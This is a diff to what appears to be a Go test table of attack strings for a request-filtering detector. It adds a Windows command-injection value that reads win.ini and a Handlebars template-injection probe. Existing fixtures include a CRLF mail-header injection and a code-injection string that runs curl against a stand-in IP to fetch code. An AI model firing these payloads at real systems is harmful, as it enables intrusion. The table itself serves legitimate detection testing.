@@ -195,6 +195,8 @@ var attackCases = []attackCase{
 	{KindUserAgent, "User-Agent", "Mozilla/5.0 SF/2.10b", "scanner-user-agent"},
 	{KindQueryValue, "cmd", "/usr/bin/id", "rce-command-line"},
 	{KindQueryValue, "function", "call_user_func_array", "php-probe"},
+	{KindQueryValue, "x", "a & if exist c:\\windows\\win.ini type c:\\windows\\win.ini", "rce-command-line"},
+	{KindBodyValue, "t", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}", "ssti-probe"},
 	{KindBodyValue, "name", "Bob\r\nCc: list@victims.example", "crlf-mail-command"},
 	{KindQueryValue, "value", `public class x { public x(){ "curl http://198.51.100.23/j".execute() } }`, "rce-code-injection"},
 	{KindPath, "", "/mifs/aad/api/v2/authorized/users", "path-sensitive-file"},
